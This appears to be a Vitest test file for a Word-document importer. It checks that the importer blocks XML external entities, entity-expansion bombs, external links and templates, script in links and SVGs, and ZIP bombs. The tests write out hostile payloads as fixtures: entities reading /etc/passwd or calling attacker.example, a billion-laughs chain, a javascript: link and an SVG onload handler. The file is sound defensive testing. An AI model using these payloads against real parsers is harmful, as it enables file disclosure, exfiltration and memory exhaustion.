// @vitest-environment jsdom
import { deflateRawSync } from 'node:zlib'
import { afterEach, expect, test, vi } from 'vitest'
import { cleanPaste } from './cleanPaste'
import { docxHtml } from './docxHtml'

interface Part {
  name: string
  data: Uint8Array
  /** What the archive says that it unpacks to, when that is a lie. */
  says?: number
}

const bytes = (text: string) => new TextEncoder().encode(text)

/** A ZIP archive, with what it says about its parts. */
function zip(parts: Part[], count = parts.length): ArrayBuffer {
  const chunks: Uint8Array[] = []
  const directory: Uint8Array[] = []
  let at = 0
  for (const { name, data, says = data.length } of parts) {
    const packed = deflateRawSync(data)
    const head = (size: number, signature: number, shift: number) => {
      const view = new DataView(new ArrayBuffer(size))
      view.setUint32(0, signature, true)
      view.setUint16(shift + 8, 8, true)
      view.setUint32(shift + 14, crc(data), true)
      view.setUint32(shift + 18, packed.length, true)
      view.setUint32(shift + 22, says, true)
      view.setUint16(shift + 26, name.length, true)
      return view
    }
    const central = head(46, 0x02014b50, 2)
    central.setUint32(42, at, true)
    directory.push(new Uint8Array(central.buffer), bytes(name))
    chunks.push(new Uint8Array(head(30, 0x04034b50, 0).buffer), bytes(name), packed)
    at += 30 + name.length + packed.length
  }
  const end = new DataView(new ArrayBuffer(22))
  end.setUint32(0, 0x06054b50, true)
  end.setUint16(8, count, true)
  end.setUint16(10, count, true)
  end.setUint32(
    12,
    directory.reduce((n, d) => n + d.length, 0),
    true,
  )
  end.setUint32(16, at, true)
  const all = [...chunks, ...directory, new Uint8Array(end.buffer)]
  const out = new Uint8Array(all.reduce((n, c) => n + c.length, 0))
  all.reduce((n, chunk) => {
    out.set(chunk, n)
    return n + chunk.length
  }, 0)
  return out.buffer
}

function crc(data: Uint8Array): number {
  let c = ~0
  for (const byte of data) {
    c ^= byte
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1
  }
  return ~c >>> 0
}

const ns =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const words = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`
const picture = (relation: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="x" descr="A dock"/><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip ${relation}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`

function docx(body: string, { rels = '', before = '', more = [] as Part[] } = {}): ArrayBuffer {
  const text = (name: string, xml: string) => ({ name, data: bytes(`<?xml version="1.0"?>${xml}`) })
  return zip([
    text(
      '[Content_Types].xml',
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="png" ContentType="image/png"/><Default Extension="svg" ContentType="image/svg+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ),
    text(
      '_rels/.rels',
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relations}/officeDocument" Target="word/document.xml"/></Relationships>`,
    ),
    text(
      'word/_rels/document.xml.rels',
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`,
    ),
    text('word/document.xml', `${before}<w:document ${ns}><w:body>${body}</w:body></w:document>`),
    ...more,
  ])
}

async function read(file: ArrayBuffer) {
  const answer = await docxHtml(file)
  return 'html' in answer ? { ...cleanPaste(answer.html), raw: answer.html } : answer
}

afterEach(() => vi.restoreAllMocks())

test('words of a document come in', async () => {
  expect(await read(docx(words('Cold chains')))).toMatchObject({ html: '<p>Cold chains</p>' })
})

test('entities bring in neither files nor more and more of themselves', async () => {
  const fetched = vi.spyOn(globalThis, 'fetch')
  vi.spyOn(console, 'error').mockImplementation(() => {})
  vi.spyOn(console, 'warn').mockImplementation(() => {})
  const hostile = [
    '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE d [<!ENTITY x SYSTEM "https://attacker.example/x">]>',
    '<!DOCTYPE d SYSTEM "https://attacker.example/x.dtd" [<!ENTITY x "inside">]>',
    `<!DOCTYPE d [<!ENTITY a0 "lol">${Array.from({ length: 12 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}<!ENTITY x "&a12;">]>`,
  ]
  for (const before of hostile) {
    const answer = await read(docx(words('[&x;]'), { before }))
    const said = JSON.stringify(answer)
    expect(said.length).toBeLessThan(500)
    expect(said).not.toMatch(/root:|lollol|inside/)
  }
  expect(fetched).not.toHaveBeenCalled()
})

test('what a document only points at is not fetched and does not run', async () => {
  const fetched = vi.spyOn(globalThis, 'fetch')
  const external = (id: string, type: string, target: string) =>
    `<Relationship Id="${id}" Type="${relations}/${type}" Target="${target}" TargetMode="External"/>`
  const answer = await read(
    docx(
      `${words('Words')}${picture('r:link="p1"')}<w:p><w:hyperlink r:id="h1"><w:r><w:t>press</w:t></w:r></w:hyperlink><w:hyperlink r:id="h2"><w:r><w:t>here</w:t></w:r></w:hyperlink></w:p>`,
      {
        rels: [
          external('p1', 'image', 'https://attacker.example/beacon.png'),
          external('h1', 'hyperlink', 'javascript:alert(1)'),
          external('h2', 'hyperlink', 'https://example.com/'),
          external('t1', 'attachedTemplate', 'https://attacker.example/macros.dotm'),
        ].join(''),
      },
    ),
  )
  expect(fetched).not.toHaveBeenCalled()
  const said = JSON.stringify(answer)
  expect(said).not.toContain('attacker.example/beacon')
  expect(said).not.toContain('macros')
  if ('html' in answer) {
    expect(answer.html).not.toContain('<img')
    expect(answer.html).not.toContain('javascript:')
  }
})

test('a picture inside comes along as a file; markup that calls itself one does not', async () => {
  const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3])
  const answer = await read(
    docx(`${words('Before')}${picture('r:embed="p1"')}${picture('r:embed="p2"')}${words('After')}`, {
      rels: ['png', 'svg']
        .map((kind, i) => `<Relationship Id="p${i + 1}" Type="${relations}/image" Target="media/image.${kind}"/>`)
        .join(''),
      more: [
        { name: 'word/media/image.png', data: png },
        { name: 'word/media/image.svg', data: bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') },
      ],
    }),
  )
  if (!('html' in answer)) throw new Error('not read')
  expect(answer.pictures.map((file) => file.type)).toEqual(['image/png'])
  expect(answer.pictures[0]?.size).toBe(png.length)
  expect(answer.html).not.toContain('<img')
  expect(answer.html).not.toContain('onload')
  expect(answer.html).toMatch(/Before.*byline-picture-0-.*After/s)
})

test('an archive that unpacks to far more than it says is put away before it fills the memory', async () => {
  const bomb = new Uint8Array(8 * 1024 * 1024)
  const limit = 1024 * 1024
  for (const says of [bomb.length, 100, 0]) {
    const file = docx(words('x'), { more: [{ name: 'word/media/a.png', data: bomb, says }] })
    expect(file.byteLength).toBeLessThan(20_000)
    expect(await docxHtml(file, limit), String(says)).toEqual({ problem: 'tooMuch' })
  }
  const many = Array.from({ length: 10 }, (_, i) => ({ name: `a${i}`, data: new Uint8Array(200_000), says: 1 }))
  expect(await docxHtml(zip(many), limit)).toEqual({ problem: 'tooMuch' }) // none of them alone
  expect(await docxHtml(zip([{ name: 'a', data: bytes('x') }], 6000), limit)).toEqual({ problem: 'tooMuch' })
})

test('what is no archive, or half of one, is unreadable', async () => {
  const whole = docx(words('x'))
  for (const file of [
    new ArrayBuffer(0),
    new ArrayBuffer(3),
    new ArrayBuffer(100),
    whole.slice(0, 300),
    whole.slice(40),
  ])
    expect(await docxHtml(file)).toEqual({ problem: 'unreadable' })
  expect(await docxHtml(zip([{ name: 'a', data: bytes('x') }], 2))).toEqual({ problem: 'unreadable' })
  expect(await docxHtml(zip([{ name: 'word/document.xml', data: bytes('<no') }]))).toEqual({ problem: 'unreadable' })
})
